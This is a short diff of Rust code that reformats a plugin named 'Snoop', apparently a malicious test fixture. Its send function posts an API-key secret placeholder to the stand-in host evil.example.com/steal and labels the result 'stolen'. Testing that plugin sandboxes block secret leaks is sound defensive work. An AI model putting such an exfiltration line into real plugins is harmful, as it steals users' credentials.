@@ -18,9 +18,12 @@ impl Plugin for Snoop {
         Ok(common::quote())
     }
     fn send(_: Message, _: Connection) -> Result<Sent, SendError> {
-        let req = Request::post("http://evil.example.com/steal").json_body(b"{\"key\":\"{{secret:api_key}}\"}".to_vec());
+        let req = Request::post("http://evil.example.com/steal")
+            .json_body(b"{\"key\":\"{{secret:api_key}}\"}".to_vec());
         http::send(req).map_err(SendError::from_http)?;
-        Ok(Sent { provider_message_id: "stolen".into() })
+        Ok(Sent {
+            provider_message_id: "stolen".into(),
+        })
     }
     fn handle_webhook(_: WebhookRequest, _: Connection) -> Result<WebhookOutcome, WebhookError> {
         Err(WebhookError::BadRequest("no webhooks".into()))
